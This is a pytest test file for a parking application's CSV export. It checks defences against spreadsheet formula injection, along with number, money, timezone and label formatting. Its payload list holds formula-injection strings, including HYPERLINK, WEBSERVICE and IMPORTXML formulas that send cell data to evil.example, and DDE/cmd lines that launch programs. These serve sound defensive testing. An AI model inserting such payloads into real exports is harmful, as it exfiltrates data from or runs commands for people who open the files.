"""Cells: nothing a spreadsheet would run, numbers that stay numbers, times with their offset."""

import csv
import io
import re
from datetime import UTC, datetime
from decimal import Decimal

import pytest

from parking import csv_labels, csv_writer
from parking.bookings.rules import lifecycle
from parking.exports import columns, rows
from parking.exports import models as export_models
from parking.mail import models as mail_models

PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    '=WEBSERVICE("http://evil.example")',
    '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
    '=DDE("cmd";"/C calc";"x")',
    "=SUM(A1:A9)",
    "==1",
    "='file:///etc/passwd'#$passwd.A1",
    '="a"&"b"',
    "+1+1",
    "+cmd|' /C calc'!A0",
    "+49 170 1234567",
    "++1",
    "+A1",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "-A1",
    "--1",
    "-",
    "@SUM(1+1)",
    "@A1",
    "@",
    "@x@y",
    "|cmd",
    "|calc.exe!A0",
    "||",
    "%0A=1+1",
    "%",
    "%USERPROFILE%",
    "\t=1+1",
    "\t1",
    "\ttext",
    "\t@SUM(1)",
    "\r=1+1",
    "\rtext",
    "\r\n=1+1",
    "\n=1+1",
    "\ntext",
    "\n\n-1",
    "\0=1+1",
    "\0text",
    "\0",
    " =1+1",
    "   +1",
    "\u00a0=1+1",
    "\u2003-1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\u2060@A1",
    "\u200e=1+1",
    "\u200f+1",
    "\v=1+1",
    "\f=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "｜cmd",
    "％A",
    " \t =1+1",
    "=1+1;=2+2",
    "=1+1,=2+2",
    '=""""',
]
DANGEROUS = re.compile(r"[=+\-@|%＝＋－＠｜％\t\r\n\0]")
TEXT = {  # every column a person can write into, or that is read from what persons wrote
    "bookings": [
        *("reference", "lot_name", "vehicle_plate", "user_email", "username", "reason"),
        *("visitor_name", "visitor_email"),
    ],
    "users": ["email", "username", "roles", "timezone", "locale"],
    "lots": ["name", "address", "description", "currency"],
    "spots": ["lot_name", "level"],
}


def read_back(document):
    """A reader of its own: RFC 4180 by the letter, written apart from the csv module."""
    text = document.decode("utf-8")
    assert text.startswith("\ufeff")
    rows, row, cell, quoted, i = [], [], "", False, 1
    while i < len(text):
        char = text[i]
        if quoted:
            if char != '"':
                cell += char
            elif text[i + 1 : i + 2] == '"':
                cell, i = cell + '"', i + 1
            else:
                quoted = False
        elif char == '"':
            assert cell == "", "a quote inside an unquoted cell"
            quoted = True
        elif char == ",":
            row, cell = [*row, cell], ""
        elif text[i : i + 2] == "\r\n":
            rows, row, cell, i = [*rows, [*row, cell]], [], "", i + 1
        else:
            assert char not in "\r\n", "a bare line end outside quotes"
            cell += char
        i += 1
    assert not quoted
    assert not row, "the last line ends too"
    return rows


def row_of(table, text):
    """A raw row of the table with `text` wherever text can stand."""
    second = int(datetime(2026, 3, 2, 12, tzinfo=UTC).timestamp())
    if table == "bookings":
        values = (7, text, text, "Europe/Berlin", 3, "instant", "Completed", second, second + 3600, None, None, second)
        return (
            *values,
            250,
            250,
            "EUR",
            text,
            second,
            None,
            1,
            0,
            None,
            "rolling",
            "UTC",
            4,
            text,
            text,
            1,
            3,
            9,
            text,
            text,
            "user",
            text,
        )
    if table == "users":
        return (9, text, text, text, True, text, text, second, None, 4, 1250, second)
    if table == "lots":
        return (
            1,
            text,
            5,
            250,
            text,
            "Europe/Berlin",
            text,
            52.5,
            -13.4,
            text,
            True,
            False,
            900,
            14400,
            1,
            0,
            None,
            "rolling",
            second,
            second,
            None,
        )
    return (3, 1, text, "Europe/Berlin", 3, text, True, False, True, None)


def table_of(name):
    tables = {
        "bookings": columns.booking_table(lambda row: pytest.fail("not live"), with_user=True),
        "users": columns.user_table("Europe/Berlin", "EUR"),
        "lots": columns.LOT_TABLE,
        "spots": columns.SPOT_TABLE,
    }
    return tables[name]


def test_there_are_at_least_sixty_payloads():
    assert len(set(PAYLOADS)) >= 60
    assert all(DANGEROUS.match(csv_writer._FORMULA.sub("=", p)[:1]) or DANGEROUS.search(p[:4]) for p in PAYLOADS)


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("name", TEXT)
def test_a_payload_in_any_text_column_is_only_text(name, payload):
    table = table_of(name)
    header, cells = read_back(csv_writer.whole(table, [row_of(name, payload)]))
    written = dict(zip(header, cells, strict=True))
    for column in TEXT[name]:
        assert written[column][0] == "'"
        assert written[column].replace("'", "") == payload.replace("'", "")  # nothing but apostrophes is added
    for column, cell in written.items():
        if column not in TEXT[name] and cell:
            assert not DANGEROUS.match(cell) or re.fullmatch(r"-?\d+(\.\d+)?", cell), column


def test_every_column_of_text_is_tested():
    """A column that shows a marker is a text column, and must stand in the list above."""
    for name, known in TEXT.items():
        header, cells = read_back(csv_writer.whole(table_of(name), [row_of(name, "marker")]))
        assert [column for column, cell in zip(header, cells, strict=True) if cell == "marker"] == [
            column for column in header if column in known
        ]


@pytest.mark.parametrize(
    "harmless", ["Harbour", "a=b", "A-1", "x@y.example", "100 %", "Ωmega", "1", "", "(a)", "über", "🚗"]
)
def test_harmless_text_stays_as_it_is(harmless):
    assert csv_writer.safe_text(harmless) == harmless


@pytest.mark.parametrize(
    "text", ['say "hi"', "a,b", "a;b", "line one\r\nline two", "ünïcode 🚗", "'quoted'", '""', " "]
)
def test_text_is_read_back_unchanged(text):
    _, cells = read_back(csv_writer.whole(columns.SPOT_TABLE, [row_of("spots", text)]))
    assert cells[2] == text
    with io.StringIO(
        csv_writer.whole(columns.SPOT_TABLE, [row_of("spots", text)]).decode("utf-8-sig"), newline=""
    ) as file:
        assert list(csv.reader(file))[1][2] == text


@pytest.mark.parametrize(
    ("typed", "written"),
    [
        ("a;=1+1", "a;'=1+1"),
        ('a;"=1+1"', 'a;\'"=1+1"'),
        ("a\t @A1", "a\t' @A1"),
        ("a\r\n=1+1", "a\r\n'=1+1"),
        ("a;b=1; c", "a;b=1; c"),
    ],
)
def test_no_cell_is_a_formula_with_another_separator(typed, written):
    """Quotes do not help there: the line begins with a number and a comma, so no cell begins with a quote."""
    assert csv_writer.safe_text(typed) == written
    assert written in read_back(csv_writer.whole(columns.SPOT_TABLE, [row_of("spots", typed)]))[1]


def test_numbers_stay_numbers():
    assert columns.money(-500, "EUR") == Decimal("-5.00")
    assert columns.money(None, "EUR") is None
    line = csv_writer.lines(columns.LOT_TABLE, [row_of("lots", "x")]).decode()
    assert ",2.50," in line
    assert ",52.5,-13.4," in line


def test_money_is_exact_where_floats_are_not():
    for minor in (10, 29, 57, 110, 999_999_999_99, 10**17 + 1):
        assert str(columns.money(minor, "EUR")) == f"{minor // 100}.{minor % 100:02d}"


@pytest.mark.parametrize(
    ("zone", "moment", "written"),
    [
        ("Europe/Berlin", datetime(2026, 3, 29, 0, 59, 59, tzinfo=UTC), "2026-03-29T01:59:59+01:00"),
        ("Europe/Berlin", datetime(2026, 3, 29, 1, 0, 0, tzinfo=UTC), "2026-03-29T03:00:00+02:00"),
        ("Australia/Lord_Howe", datetime(2026, 4, 4, 14, 59, 59, tzinfo=UTC), "2026-04-05T01:59:59+11:00"),
        ("Australia/Lord_Howe", datetime(2026, 4, 4, 15, 0, 0, tzinfo=UTC), "2026-04-05T01:30:00+10:30"),
        ("Asia/Kathmandu", datetime(2026, 1, 1, tzinfo=UTC), "2026-01-01T05:45:00+05:45"),
        ("UTC", datetime(2026, 1, 1, tzinfo=UTC), "2026-01-01T00:00:00+00:00"),
    ],
)
def test_times_carry_the_offset_of_their_zone(zone, moment, written):
    assert csv_writer.times(zone)(int(moment.timestamp())) == written
    assert datetime.fromisoformat(written) == moment


def test_a_file_has_a_byte_order_mark_a_header_and_crlf_line_ends():
    document = csv_writer.whole(columns.SPOT_TABLE, [])
    assert (
        document
        == b'\xef\xbb\xbf"id","lot_id","lot_name","spot_number","level","ev","accessible","covered","retired_at"\r\n'
    )


CLOSED_SETS = {
    "status": (*lifecycle.STATUSES, "instant", "reserved", "user", "admin", "system"),
    "export": (*export_models.KINDS, *export_models.STATES),
    "mail": mail_models.STATES,
}


@pytest.mark.parametrize("values", CLOSED_SETS.values(), ids=CLOSED_SETS.keys())
def test_every_value_of_a_closed_set_has_a_german_word(values):
    words = {value: csv_labels.word(value, "de") for value in values}
    assert [value for value in values if words[value] == value and value != "system"] == []
    assert [csv_labels.word(value, "en") for value in values] == list(values)


@pytest.mark.parametrize(("currency", "zero"), [("EUR", "0.00"), ("JPY", "0")])
def test_a_stay_that_goes_on_has_no_price_in_the_spreadsheet_of_a_person(currency, zero):
    table = columns.booking_table(lambda row: columns.LiveValues("Active", None, 0, 1.5), with_user=True)
    row = dict(zip(rows.BookingRow._fields, row_of("bookings", "x"), strict=False))
    row |= {"currency": currency, "booking_type": "instant", "ended_by": None, "end": None}
    german = csv_writer.dialect_of("semicolon", "de")

    def cells(dialect):
        text = csv_writer.whole(table, [list(row.values())], dialect).decode("utf-8-sig")
        return next(csv.DictReader(io.StringIO(text), delimiter=dialect.separator))

    for_programs, for_people = cells(csv_writer.MACHINE), cells(german)
    assert (for_programs["total_cost"], for_people["Gesamtpreis"]) == (zero, "")
    assert (for_programs["status"], for_people["Status"]) == ("Active", "Aktiv")
    assert (for_programs["booking_type"], for_people["Buchungsart"]) == ("instant", "Sofort")
